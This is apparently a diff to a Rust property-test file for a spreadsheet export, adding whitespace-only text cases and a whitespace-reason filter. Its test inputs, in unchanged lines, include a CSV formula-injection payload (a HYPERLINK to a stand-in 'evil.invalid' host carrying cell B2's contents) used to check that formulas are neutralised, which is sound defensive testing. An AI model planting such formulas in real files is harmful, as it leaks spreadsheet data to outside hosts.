@@ -89,6 +89,7 @@ fn text() -> impl Strategy<Value = String> {
     prop_oneof![
         any::<String>(),
         "[=+@'\\-\t\r\n ;:\\\\\"aä€]{1,8}",
+        "[ \t\r\n\u{a0}\u{3000}]{1,3}",
         "[ \t]{0,2}[=+@'\\-]{1,3}[a-z(),\"&]{0,8}[ \t]{0,2}",
         Just("=HYPERLINK(\"http://evil.invalid/?d=\"&B2,\"Open\")".to_string()),
         Just("@SUM(1)".to_string()),
@@ -114,6 +115,10 @@ fn texts() -> impl Strategy<Value = Texts> {
                 !m.eq_ignore_ascii_case("yes") && !m.eq_ignore_ascii_case("no")
             },
         )
+        // A reason of only whitespace is no reason (J0604).
+        .prop_filter("an allow with a reason", |(_, _, (_, _, _, reason))| {
+            !reason.trim().is_empty()
+        })
         .prop_filter("a KPI target that is text", |(_, (_, _, target, _), _)| {
             let t = target.trim();
             !t.is_empty() && t.parse::<f64>().is_err() && !t.chars().any(|c| c.is_ascii_digit())
@@ -255,6 +260,38 @@ fn formula_cells_of_the_reproducer_are_neutralised() {
 
 /// Whitespace at the ends of list items and KPI parts is text, not the
 /// space after a separator.
+#[test]
+fn texts_of_whitespace_only_survive() {
+    let ws = |s: &str| s.to_string();
+    let t = Texts {
+        phase_title: ws(" "),
+        title: ws("\t"),
+        copy: vec![ws(" "), ws("\n")],
+        evidence: ws("\u{a0}"),
+        disclaimer: ws("\r\n"),
+        kpi_name: ws(" "),
+        kpi_target: ws("  "),
+        kpi_unit: ws("\t"),
+        moment: ws("\t"),
+        collects: ws(" "),
+        description: ws("\n\n"),
+        reason: ws(" why "),
+    };
+    let row = the_row(&export(&source(&t)));
+    assert_eq!(row.phase_title.as_deref(), Some(" "));
+    assert_eq!(row.title.as_deref(), Some("\t"));
+    assert_eq!(row.copy, t.copy);
+    assert_eq!(row.evidence, ["\u{a0}"]);
+    assert_eq!(row.disclaimers, ["\r\n"]);
+    assert_eq!(row.kpis[0].name, " ");
+    assert_eq!(row.kpis[0].target, Some(Target::Text("  ".into())));
+    assert_eq!(row.kpis[0].unit.as_deref(), Some("\t"));
+    assert_eq!(row.moment, Moment::Note("\t".into()));
+    assert_eq!(row.collects, [" "]);
+    assert_eq!(row.description.as_deref(), Some("\n\n"));
+    assert_eq!(row.allows[0].reason.as_deref(), Some(" why "));
+}
+
 #[test]
 fn whitespace_at_the_ends_of_items_survives() {
     let t = Texts {
